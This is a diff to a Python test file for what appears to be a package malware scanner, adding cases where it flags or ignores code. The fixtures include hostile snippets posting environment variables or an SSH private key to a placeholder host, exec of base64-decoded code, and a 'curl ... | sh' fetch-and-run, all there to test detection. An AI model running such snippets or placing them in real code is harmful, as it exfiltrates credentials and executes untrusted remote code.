@@ -1,5 +1,7 @@
 """What modules do by themselves because another module of the package calls them."""
 
+# ruff: noqa: E501  # programs on one line
+
 from collections.abc import Mapping
 from pathlib import Path
 
@@ -27,7 +29,7 @@ def rules(tree: Path, files: Mapping[str, str], path: str, filename: str = WHEEL
         file.parent.mkdir(parents=True, exist_ok=True)
         file.write_text(text)
     package = PackageBehaviour(tree, RunningFiles(tree, filename), Seen.nothing(1))
-    return {each.rule for each in package.of(path)}
+    return {each.rule for each in package.of(path) if not each.waits}
 
 
 @pytest.mark.parametrize(
@@ -148,7 +150,8 @@ def test_what_is_remembered_of_one_archive_hides_nothing_in_another_one(tmp_path
         tree = tmp_path / str(number)
         rules(tree, {**files, "b-1/pyproject.toml": project}, "b-1/_build/bad.py", SDIST)
         package = PackageBehaviour(tree, RunningFiles(tree, SDIST), seen)
-        found.append([each.rule for each in package.of("b-1/_build/bad.py")])
+        of_bad = package.of("b-1/_build/bad.py")
+        found.append([each.rule for each in of_bad if not each.waits])
     assert found == [[], ["sends-secrets"]]
 
 
@@ -169,3 +172,43 @@ def test_names_are_resolved_as_python_does() -> None:
     assert graph.resolve("p/q/m.py", "t.f") == ("t.py", "f")
     assert graph.resolve("p/q/m.py", "os.system") == ("", "")
     assert graph.resolve("t.py", "....x") == ("", "")
+
+
+@pytest.mark.parametrize(
+    ("rule", "code"),
+    [
+        ("sends-secrets", "import os, requests\ndef f():\n    requests.post('https://a', json=dict(os.environ))"),
+        ("sends-secrets", "import os, requests\ndef f():\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.post('https://a', data=key)"),
+        ("runs-decoded-code", "import base64\ndef f():\n    exec(base64.b64decode('aW1wb3J0IG9z'))"),
+        ("runs-downloaded-code", "import os\ndef f():\n    os.system('curl -s https://a.example/x | sh')"),
+    ],
+)  # fmt: skip
+def test_what_looks_like_malware_counts_in_a_function_that_waits_too(
+    tmp_path: Path, rule: str, code: str
+) -> None:
+    (tmp_path / "sample.py").write_text(code)
+    package = PackageBehaviour(tmp_path, RunningFiles(tmp_path, WHEEL), Seen.nothing(1))
+
+    (found,) = package.of("sample.py")
+
+    assert (found.rule, found.waits, len(found.fingerprint)) == (rule, True, 64)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import os, requests\ndef f():\n    requests.get('https://a', headers={'A': os.environ['API_TOKEN']})",
+        "import os, requests\ndef f():\n    key = open(os.path.expanduser('~/.aws/credentials')).read()\n    requests.get('https://a', headers={'A': key})",
+        "import pickle, requests\ndef load(url):\n    return pickle.loads(requests.get(url).content)",
+        "import marshal, zlib\ndef cached(data):\n    exec(marshal.loads(zlib.decompress(data)))",
+        "import os\ndef install():\n    open(os.path.expanduser('~/.bashrc'), 'a').write('x')",
+        "import socket, requests\ndef f():\n    requests.post('https://a', json={'host': socket.gethostname()})",
+    ],
+)  # fmt: skip
+def test_what_clients_and_loaders_do_when_they_are_called_does_not(
+    tmp_path: Path, code: str
+) -> None:
+    (tmp_path / "sample.py").write_text(code)
+    package = PackageBehaviour(tmp_path, RunningFiles(tmp_path, WHEEL), Seen.nothing(1))
+
+    assert package.of("sample.py") == []
